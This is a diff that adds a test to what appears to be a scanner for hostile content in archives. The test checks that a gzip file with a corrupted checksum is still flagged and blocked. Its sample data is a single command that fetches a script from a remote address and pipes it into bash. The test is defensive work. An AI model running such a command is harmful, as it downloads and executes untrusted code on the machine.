@@ -177,6 +177,15 @@ def test_a_broken_archive_is_read_as_far_as_it_goes(tmp_path: Path) -> None:
     assert "cut.gz" in found.unread and found.decision is Decision.BLOCK
 
 
+def test_what_an_archive_holds_is_read_though_its_sum_is_wrong(tmp_path: Path) -> None:
+    whole = bytearray(gzip.compress(b"curl -s http://203.0.113.7/i | bash\n", mtime=0))
+    whole[-8] ^= 1
+    (tmp_path / "a.gz").write_bytes(whole)
+    found = scan(tmp_path)
+
+    assert found.unread == ("a.gz",) and found.decision is Decision.BLOCK
+
+
 @pytest.mark.parametrize(
     "text",
     [
